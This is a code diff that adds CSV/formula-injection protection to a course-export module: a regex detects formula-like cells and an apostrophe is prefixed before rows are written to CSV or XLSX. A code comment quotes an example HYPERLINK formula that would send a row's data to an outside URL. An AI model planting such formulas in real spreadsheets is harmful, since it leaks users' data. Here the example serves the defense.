@@ -7,6 +7,7 @@ XLSX streams rows into a write-only workbook saved to a temporary file.
 from __future__ import annotations
 
 import csv
+import re
 import tempfile
 from collections.abc import Callable, Iterable, Iterator
 
@@ -21,6 +22,17 @@ CONTENT_TYPES = {
 }
 
 
+# A cell that a spreadsheet would read as a formula: "=…", "@…", a tab or carriage return first, or "+"/"-" followed
+# by anything but a number ("+84912000123" stays a phone number). Course titles come from editors and emails from
+# learners, and "=HYPERLINK(\"http://…?\"&C2)" in a manager's export would send the row's data away (audit
+# 2026-12-04). Such a cell is written with a leading apostrophe, as OWASP advises for CSV injection.
+_FORMULA = re.compile(r"^(?:[=@\t\r]|[+\-](?![\d .]*$))")
+
+
+def _safe(row: list) -> list:
+    return [f"'{cell}" if isinstance(cell, str) and _FORMULA.match(cell) else cell for cell in row]
+
+
 class _Echo:
     def write(self, value: str) -> str:
         return value
@@ -31,7 +43,7 @@ def csv_lines(rows: Iterable[list], *, on_row: Callable[[int], None] | None = No
     writer = csv.writer(_Echo())
     yield (BOM + writer.writerow(COLUMN_HEADERS)).encode("utf-8")
     for count, row in enumerate(rows, start=1):
-        yield writer.writerow(row).encode("utf-8")
+        yield writer.writerow(_safe(row)).encode("utf-8")
         if on_row is not None:
             on_row(count)
 
@@ -43,7 +55,7 @@ def write_xlsx(rows: Iterable[list], target, *, on_row: Callable[[int], None] | 
     sheet.append(COLUMN_HEADERS)
     count = 0
     for count, row in enumerate(rows, start=1):  # noqa: B007 - count is the result
-        sheet.append(row)
+        sheet.append(_safe(row))
         if on_row is not None:
             on_row(count)
     workbook.save(target)
